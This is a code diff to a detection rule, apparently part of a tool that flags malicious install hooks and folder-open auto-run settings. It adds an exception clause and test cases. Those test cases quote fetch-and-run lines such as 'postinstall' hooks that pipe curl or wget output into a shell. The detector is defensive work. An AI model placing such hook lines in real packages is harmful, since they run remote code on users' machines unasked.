@@ -4,6 +4,7 @@ import { all, answered, any, matches } from '../../../core/model/pattern.ts';
 import { defineQuestion } from '../../../core/model/question.ts';
 import { jointAdvisory2026 } from '../publications/government.ts';
 import { gitlab2026 } from '../publications/vendors.ts';
+import { unlessTold } from '../retold.ts';
 
 /** Where settings end up that are pasted in place of being dropped. */
 const pasted: Askable[] = ['summary', 'message'];
@@ -47,7 +48,7 @@ export default defineIndicator({
   ],
   pattern: any(
     matches(['embedded-part'], `\\brun on (?:opening the folder|installing \\([a-z]{3,12}\\)): [^\\n]{0,120}${loads}`),
-    matches(pasted, `"(?:pre|post)?install"\\s{0,4}:\\s{0,4}"[^\\n]{0,120}${loads}`),
+    matches(pasted, `"(?:pre|post)?install"\\s{0,4}:\\s{0,4}"[^\\n]{0,120}${loads}${unlessTold}`),
     all(
       matches(pasted, '"runOn"\\s{0,4}:\\s{0,4}"folderOpen"'),
       matches(
@@ -100,6 +101,20 @@ export default defineIndicator({
             'embedded-part': [{ what: 'attachment', name: 'article.pdf' }],
             summary: ['I wrote about samples that run curl https://example.com/a.sh | bash in secret.'],
             message: [{ text: 'My article is attached.' }],
+            answer: [{ question: 'code-takehome-runs-code', reply: 'no' }],
+          },
+        ],
+      },
+      {
+        because: 'Somebody shows what they were sent.',
+        profiles: [
+          {
+            'embedded-part': [{ what: 'attachment', name: 'article.pdf' }],
+            summary: ['I wrote about samples.'],
+            message: [
+              { text: 'Somebody sent me a sample with "postinstall": "curl -s https://example.com/a.sh | bash" in it.' },
+              { text: 'My last find was "preinstall": "wget -qO- https://example.com/a | sh", I reported it.' },
+            ],
             answer: [{ question: 'code-takehome-runs-code', reply: 'no' }],
           },
         ],
